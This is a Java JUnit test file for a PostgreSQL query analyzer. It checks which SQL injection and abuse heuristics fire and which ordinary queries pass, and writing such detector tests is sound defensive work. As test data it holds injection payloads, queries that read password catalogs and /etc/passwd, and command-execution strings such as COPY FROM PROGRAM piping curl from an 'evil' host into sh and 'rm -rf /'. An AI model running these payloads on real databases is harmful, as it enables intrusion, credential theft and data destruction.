package dev.pgpolicy.sql;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.EnumSet;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each heuristic of LANGUAGE.md: what it must catch, and the ordinary SQL it must leave alone. */
class HeuristicsTest {
    private static final SqlAnalyzer ANALYZER = TestAnalyzers.generousBudget();

    @AfterAll
    static void close() {
        ANALYZER.close();
    }

    private static Set<Heuristic> findings(String sql) {
        QueryAnalysis analysis = ANALYZER.analyze(sql);
        Set<Heuristic> all = EnumSet.noneOf(Heuristic.class);
        all.addAll(analysis.findings());
        analysis.statements().forEach(s -> all.addAll(s.findings()));
        return all;
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT 1; SELECT 2",
        "SELECT * FROM users WHERE id = 1; DROP TABLE users",
        "SELECT * FROM t WHERE name = 'x';DELETE FROM t --'",
    })
    void stackedStatementsAreCaught(String sql) {
        assertThat(ANALYZER.analyze(sql).findings()).contains(Heuristic.STACKED_STATEMENTS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"SELECT 1;", "SELECT 1 ;; ", "SELECT ';' FROM t", "SELECT 1 -- ; SELECT 2"})
    void oneStatementIsNotStacked(String sql) {
        assertThat(ANALYZER.analyze(sql).findings()).doesNotContain(Heuristic.STACKED_STATEMENTS);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM users WHERE name = 'x' OR 1=1",
        "SELECT * FROM users WHERE name = 'x' OR 'a'='a'",
        "SELECT * FROM users WHERE name = '' OR true",
        "SELECT * FROM users WHERE name = '' OR 2>1",
        "SELECT * FROM users WHERE id = 5 OR 7 = 7",
        "SELECT * FROM users WHERE (name = 'a' AND (pass = 'b' OR 1=1))",
        "SELECT * FROM users WHERE name = 'a' OR name = name",
        "SELECT * FROM a JOIN b ON a.id = b.id OR 1=1",
        "SELECT count(*) FROM users GROUP BY role HAVING count(*) > 1 OR 'x'='x'",
        "UPDATE users SET admin = true WHERE name = 'bob' OR NOT false",
        "DELETE FROM users WHERE id = 1 OR (1 = 1)",
        "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE a = 1 OR 1 = 1)",
    })
    void tautologiesAreCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.TAUTOLOGY);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM users WHERE 1=1 AND name = 'x' AND active",
        "SELECT * FROM users WHERE 1 = 1",
        "SELECT * FROM users WHERE status = 'a' OR status = 'b'",
        "SELECT * FROM users WHERE (name = $1 OR $1 IS NULL) AND (role = $2 OR $2 IS NULL)",
        "SELECT * FROM users WHERE a = b OR c = d",
        "SELECT 1 = 1 OR true FROM users",
    })
    void ordinaryConditionsAreNotTautologies(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.TAUTOLOGY);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT name FROM products WHERE id = 1 UNION SELECT NULL",
        "SELECT name, price FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL",
        "SELECT name FROM products WHERE id = 1 UNION SELECT 'a'::text",
        "SELECT name FROM products WHERE id = 1 UNION SELECT NULL FROM generate_series(1, 1)",
        "SELECT name FROM products UNION SELECT usename FROM pg_catalog.pg_user",
        "SELECT name FROM products UNION SELECT table_name FROM information_schema.tables",
        "SELECT name FROM products UNION SELECT rolpassword FROM pg_authid",
    })
    void unionProbesAreCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.UNION_PROBE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT name FROM customers UNION SELECT name FROM suppliers",
        "SELECT 'customer' AS kind, count(*) FROM customers UNION ALL SELECT 'order', count(*) FROM orders",
        "SELECT region, sum(x) FROM sales GROUP BY region UNION ALL SELECT 'total', sum(x) FROM sales",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        "SELECT 1 UNION SELECT 2",
        "SELECT relname FROM pg_class UNION SELECT nspname FROM pg_namespace",
    })
    void reportingUnionsAreNotProbes(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.UNION_PROBE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM users WHERE name = 'admin' --' AND password = 'x'",
        "SELECT * FROM users WHERE name = 'admin'--",
        "SELECT * FROM users WHERE name = 'admin' -- ",
        "SELECT * FROM users WHERE name = 'admin'/*' AND password = 'x'",
        "SELECT * FROM users WHERE name = 'admin' /* ' AND pass = '' */",
        "SELECT * FROM users WHERE name = E'admin' --'",
    })
    void commentAfterLiteralIsCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.COMMENT_AFTER_LITERAL);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM users WHERE id = 7 /* app=web,trace=abc */",
        "SELECT * FROM users WHERE name = 'bob' /* app=web,trace=abc */",
        "SELECT * FROM users WHERE name = 'bob' /*controller='users',action='show',traceparent='00-4bf9-00f0-01'*/",
        "SELECT * FROM users WHERE name = 'bob' -- app=web",
        "SELECT * FROM users -- all users\nWHERE active",
        "SELECT 'a' /* label */, name FROM users",
        "/* leading comment */ SELECT 'x'",
        "SELECT '--not a comment' FROM t",
    })
    void traceCommentsAndOrdinaryCommentsAreNotFindings(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.COMMENT_AFTER_LITERAL);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT pg_sleep(10)",
        "SELECT * FROM users WHERE id = 1 AND pg_sleep(5) IS NOT NULL",
        "SELECT pg_catalog.pg_sleep_for('5 seconds')",
        "SELECT pg_sleep_until(now() + interval '1 minute')",
        "SELECT CASE WHEN (SELECT true) THEN pg_sleep(5) END",
        "DO $$ BEGIN PERFORM pg_sleep(10); END $$",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $body$ BEGIN PERFORM pg_sleep(1); END $body$",
    })
    void sleepIsCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.SLEEP);
    }

    @ParameterizedTest
    @ValueSource(strings = {"SELECT sleep_minutes FROM shifts", "SELECT myschema.pg_sleep(1)", "SELECT 'pg_sleep(1)'"})
    void sleepLookalikesAreNot(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.SLEEP);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM pg_catalog.pg_class",
        "SELECT usename, passwd FROM pg_shadow",
        "SELECT rolname, rolpassword FROM pg_authid",
        "SELECT * FROM pg_user",
        "SELECT * FROM information_schema.columns WHERE table_name = 'users'",
        "SELECT version()",
        "SELECT current_setting('data_directory')",
        "SELECT current_setting('hba_file')",
        "SELECT current_setting(name) FROM t",
        "SHOW data_directory",
        "SHOW ALL",
        "SELECT a.attname FROM pg_attribute a JOIN pg_class c ON c.oid = a.attrelid WHERE c.relname = 'users'",
    })
    void catalogProbesAreCaughtIncludingDriverQueries(String sql) {
        assertThat(findings(sql)).contains(Heuristic.CATALOG_PROBE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"SELECT current_setting('TimeZone')", "SHOW search_path", "SELECT * FROM users",
        "SELECT * FROM app.pg_like_name_but_qualified"})
    void ordinarySettingsAndTablesAreNotCatalogProbes(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.CATALOG_PROBE);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('global/pg_control')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT pg_stat_file('postgresql.conf')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(12345, '/tmp/x')",
        "COPY users TO '/tmp/users.csv'",
        "COPY users FROM '/tmp/evil.csv' WITH (FORMAT csv)",
        "COPY (SELECT * FROM users) TO '/tmp/out'",
    })
    void fileAccessIsCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.FILE_ACCESS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"COPY users TO STDOUT", "COPY users FROM STDIN (FORMAT csv)", "SELECT read_file_name FROM docs"})
    void copyThroughTheClientIsNotFileAccess(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.FILE_ACCESS);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "COPY users FROM PROGRAM 'curl http://evil | sh'",
        "COPY (SELECT 1) TO PROGRAM 'rm -rf /'",
        "CREATE FUNCTION f() RETURNS text LANGUAGE plpython3u AS $$ import os; return os.popen('id').read() $$",
        "CREATE OR REPLACE FUNCTION f() RETURNS int AS 'libc.so.6', 'system' LANGUAGE C",
        "CREATE FUNCTION f() RETURNS int AS $$ 1 $$ LANGUAGE 'plperlu'",
        "DO LANGUAGE plpythonu $$ import os $$",
        "DO $$ BEGIN EXECUTE 'COPY t FROM PROGRAM ''id'''; END $$",
        "CREATE EXTENSION IF NOT EXISTS plpython3u",
    })
    void programExecutionIsCaught(String sql) {
        assertThat(findings(sql)).contains(Heuristic.PROGRAM_EXEC);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
        "DO $$ BEGIN RAISE NOTICE 'hi'; END $$",
        "SELECT language FROM documents",
    })
    void trustedLanguagesAreNotProgramExecution(String sql) {
        assertThat(findings(sql)).doesNotContain(Heuristic.PROGRAM_EXEC);
    }

    @ParameterizedTest
    @ValueSource(strings = {"SELECT xmlelement(name a) FROM t", "FROBNICATE", "SELECT 'unterminated", "SELECT /* unterminated"})
    void unparsedStatementsSaySo(String sql) {
        assertThat(findings(sql)).contains(Heuristic.UNPARSED);
    }
}
